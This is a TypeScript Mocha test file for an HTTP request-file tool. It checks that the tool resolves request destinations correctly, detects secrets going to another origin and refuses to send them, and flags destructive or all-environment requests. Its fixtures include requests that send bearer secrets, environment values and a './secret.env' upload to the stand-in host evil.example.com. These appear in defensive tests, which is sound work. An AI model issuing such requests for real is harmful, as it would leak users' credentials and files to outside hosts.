import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { Secret } from '../../../../src/api/secret';
import { parseDocument } from '../../../../src/requests/document/parse';
import { destinations, type Destination } from '../../../../src/requests/sending/destination';
import type { NamedResponse } from '../../../../src/requests/document/responseReference';
import { target } from '../fixture';
import { refusal, resolve } from '../resolving';

const leak = 'secretToOtherOrigin';

const environmentVariables = { evil: 'https://evil.example.com', path: '/hserve/v1/content/group/', name: 'evil' };
const body = { host: 'evil.example.com', slash: '/evil.example.com', ttp: 'ttp', id: 7 };
const responses = new Map<string, NamedResponse>([
  ['login', { status: 200, headers: [], text: new Secret(JSON.stringify(body)) }],
]);

function destinationOf(text: string): Promise<Destination | undefined> {
  const document = parseDocument(text);
  return destinations({ document, environmentVariables }, target)(document.requests.at(-1) ?? assert.fail());
}

/** Writes a chain of variables, each referring to the next. */
function chain(length: number, value: string): string {
  const names = Array.from({ length }, (_, index) => `@v${index} = {{v${index + 1}}}\n`);
  return `${names.join('')}@v${length} = ${value}\n`;
}

describe('the destination of a request before it is sent', () => {
  const known = [
    'GET /hserve/v1/content/group/',
    'GET {{path}}',
    'GET {{evil}}/x',
    '@evil = /hserve/v1/content/group/\nGET {{evil}}',
    'GET https://{{name}}.example.com/x?{{$guid}}',
    `${chain(11, 'https://evil.example.com')}GET {{v0}}/x`,
    `${chain(60, 'evil')}GET https://{{v0}}.example.com/x`,
    `${chain(40, '/oserve/v2.2/server/time/')}GET {{v0}}`,
    `GET ${target.serverDomain}/hserve/v1/content/group/`,
    'GET /hserve/v2.2/user/info/{{login.response.body.id}}/',
    'GET https://evil.example.com/{{login.response.body.id}}',
  ];
  it('matches the sender, with any chain of variables and settings', async () => {
    for (const text of known) {
      const sent = await resolve(text, { environmentVariables, responses });
      const told = await destinationOf(text);
      assert.deepEqual([told?.url.origin, told?.family], [sent.url.origin, sent.family], text);
    }
  });

  const open = [
    'GET https://{{login.response.body.host}}/x',
    '@to = https://{{login.response.body.host}}\n@base = {{to}}\nGET {{base}}/x',
    'GET http:/{{login.response.body.slash}}/x',
    'GET h{{login.response.body.ttp}}://evil.example.com/x',
    'GET {{$prompt where?}}',
    'GET https://{{$guid}}.example.com',
    '# @name evil.response\nGET https://{{evil.response.body}}.example.com/x',
  ];
  it('shows when all records of a table change, and nothing while the condition is unknown', async () => {
    const records = '/oserve/v2.4/table/{{login.response.body.id}}/record/';
    const told = async (text: string) => (await destinationOf(text))?.changesAll;
    assert.deepEqual(
      [
        await told(`DELETE ${records}`),
        await told('DELETE /oserve/v2.4/table/5/record/?limit=5'),
        await told('@w = {}\nDELETE /oserve/v2.4/table/5/record/?where={{w}}'),
      ],
      [true, true, true],
    );
    assert.deepEqual(
      [
        await told('DELETE /oserve/v2.4/table/5/record/?where={{$prompt which?}}'),
        await told('DELETE /oserve/v2.4/table/5/record/?{{login.response.body.slash}}'),
        await told('DELETE /oserve/v2.4/table/5/record/?where={"a":1}'),
        await told(`GET ${records}`),
      ],
      [false, false, false, false],
    );
  });

  it('is unknown when a response, a question or a function decides the host', async () => {
    for (const text of open) assert.equal(await destinationOf(text), undefined, text);
  });

  it('says that another host would get a secret, so that the sender refuses', async () => {
    const evil = 'POST https://evil.example.com/';
    const carries = [
      `${evil}\nX-A: Bearer {{$secret a}}`,
      `${evil}{{$guid}}\nX-A: {{$dotenv A public}}`,
      `@a = {{$processEnv A}}\n${evil}\n\n{"a": "{{a}}"}`,
    ];
    const told = async (text: string) => (await destinationOf(text))?.leaksSecret;
    const machineValue = async () => new Secret('known');
    for (const text of carries)
      assert.deepEqual([await told(text), await refusal(text, { machineValue })], [true, leak], text);
    for (const text of [evil, `${evil}\nX-A: {{$guid}}`, '/hserve/v1/content/group/\nX-A: {{$secret a}}'])
      assert.equal(await told(text), false, text);
  });

  it('is production when a header or an encoded path makes it affect the tokens of all environments', async () => {
    for (const text of [
      'POST /api/oauth2/access%5Ftoken/',
      'GET /api/oauth2/access_token/\nX-HTTP-Method-Override: POST',
      'POST /api/oauth2/{{$prompt which?}}/',
      'POST /api/oauth2/access_token',
      'POST /api/oauth2/hydrogen//openapi%2Fauthorize/',
    ]) {
      assert.equal((await destinationOf(text))?.isForAllEnvironments, true, text);
    }
  });
});

describe('the content that a request sends', () => {
  it('includes its files and the values of earlier responses, from any source', async () => {
    const text = [
      '@id = {{login.response.body.id}}',
      'POST https://evil.example.com/{{login.response.body.host}}',
      'X-Id: {{id}}',
      '',
      '<@ ./template.json',
    ].join('\n');
    const readFile = async () => Buffer.from('{"slash": "{{login.response.body.slash}}"}');
    const sent = await resolve(text, { responses, readFile });
    assert.deepEqual(sent.files, ['./template.json']);
    assert.deepEqual(sent.responseValues, [
      'login.response.body.host',
      'login.response.body.id',
      'login.response.body.slash',
    ]);
    const upload = [
      'POST https://evil.example.com/',
      'Content-Type: multipart/form-data; boundary=b',
      '',
      '--b',
      'Content-Disposition: form-data; name="file"',
      '',
      '< ./secret.env',
      '--b--',
    ];
    assert.deepEqual((await resolve(upload.join('\n'))).files, ['./secret.env']);
  });
});
